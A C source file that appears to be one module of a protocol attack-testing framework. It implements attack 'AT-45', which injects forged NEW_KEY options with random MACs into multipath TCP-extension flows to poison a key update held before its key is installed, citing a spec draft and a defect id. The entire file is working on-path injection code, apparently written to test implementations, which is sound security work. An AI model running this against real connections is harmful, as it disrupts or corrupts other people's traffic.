/* SPDX-License-Identifier: MIT */
/*
 * AT-45: a NEW_KEY that comes before its key is installed may be held, D-07.
 * For each that passes, the attacker puts others with random MACs into the same
 * direction, behind it or ahead of it, so that what is held is not the peer's.
 */
#include "atk_flows.h"
#include "atk_table.h"
#include "mpx_tcp.h"

enum { PENDING_MAX = 16 };
#define BEHIND UINT64_C(10000) /* ns */

enum { PLACE, COUNT };
enum { PLACE_AHEAD = 1, PLACE_BOTH };
static const char *const place_words[] = {"behind", "ahead", "both", NULL};
static const struct atk_param params[] = {
    [PLACE] = {"place", ATK_P_WORD, .words = place_words},
    [COUNT] = {"count", ATK_P_COUNT, .initial = 1, .min = 1, .max = 100},
    {.name = NULL},
};

/* A NEW_KEY that has passed. */
struct passed {
    unsigned flow;
    int dir;
    struct mpx_opt opt;
};
struct state {
    struct atk_flows flows;
    struct passed v[PENDING_MAX];
    unsigned n;
};

static void forge_new_keys(struct atk *a, const struct state *st,
                           const struct passed *p, uint64_t now)
{
    for (uint64_t i = 0; i < atk_param(a, COUNT); i++) {
        struct mpx_opt o = p->opt;
        struct atk_opts d = {.n = 0};

        atk_random(a, o.u.new_key.mac, sizeof o.u.new_key.mac);
        atk_opts_add(&d, &o);
        atk_flows_inject(a, &st->flows.v[p->flow], p->dir, MPX_TCP_ACK, &d,
                         NULL, 0, now);
    }
}

static enum atk_verdict on_segment(struct atk *a, void *state,
                                   const struct atk_segment *s, uint64_t now)
{
    struct state *st = state;
    struct atk_watched *f = atk_flows_note(a, &st->flows, s, now);
    struct passed p = {.dir = s->dir};

    if (!f || now < atk_config(a)->acts ||
        !atk_opts_find(s, MPX_SUB_NEW_KEY, &p.opt))
        return ATK_PASS;
    p.flow = (unsigned)(f - st->flows.v);
    if (atk_param(a, PLACE) != 0)
        forge_new_keys(a, st, &p, now);
    if (atk_param(a, PLACE) != PLACE_AHEAD &&
        atk_has_room(a, st->n, PENDING_MAX)) {
        st->v[st->n++] = p;
        atk_set_timer(a, now + BEHIND);
    }
    return ATK_PASS;
}

static void poison_behind(struct atk *a, void *state, uint64_t now)
{
    struct state *st = state;

    for (unsigned i = 0; i < st->n; i++)
        forge_new_keys(a, st, &st->v[i], now);
    st->n = 0;
}

const struct atk_ops atk_newkey_poison = {
    .name = "poison-held-newkey",
    .id = "AT-45",
    .does = "sends NEW_KEYs with a random MAC before the receiver has its "
            "key, in the place of the one that is held",
    .source = "draft-baerts-tcpm-mptcpext-00 section 4.2, D-07",
    .powers = ATK_READ | ATK_INJECT,
    .params = params,
    .state_size = sizeof(struct state),
    .on_segment = on_segment,
    .on_timer = poison_behind,
};
